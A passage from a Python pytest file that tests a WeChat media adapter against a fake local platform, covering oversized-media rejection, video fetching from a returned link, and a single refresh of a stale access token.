    fake_platform.route("GET", "/cgi-bin/media/get", (200, b"x" * 2048))
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.fetch_media(channel(api_base=fake_platform.url, state=cached(60)), "big", max_bytes=1024)
    assert caught.value.code == "too_large"
    assert caught.value.retry is False


def test_video_media_is_fetched_from_the_link_wechat_gives(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", "/cgi-bin/media/get", (200, {"video_url": f"{fake_platform.url}/video/v1.mp4"}))
    fake_platform.route("GET", "/video/v1.mp4", (200, b"mp4 bytes"))
    content, _ = ADAPTER.fetch_media(channel(api_base=fake_platform.url, state=cached(60)), "media_video_1", max_bytes=1024)
    assert content == b"mp4 bytes"


def test_media_refreshes_a_stale_token_once(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", TOKEN_PATH, (200, {"access_token": "TOKEN-NEW", "expires_in": 7200}))
    fake_platform.route("GET", "/cgi-bin/media/get", lambda r: (200, b"img") if r.query["access_token"] == ["TOKEN-NEW"] else (200, {"errcode": 42001}))
    content, _ = ADAPTER.fetch_media(channel(api_base=fake_platform.url, state=cached(60)), "m", max_bytes=1024)
    assert content == b"img"
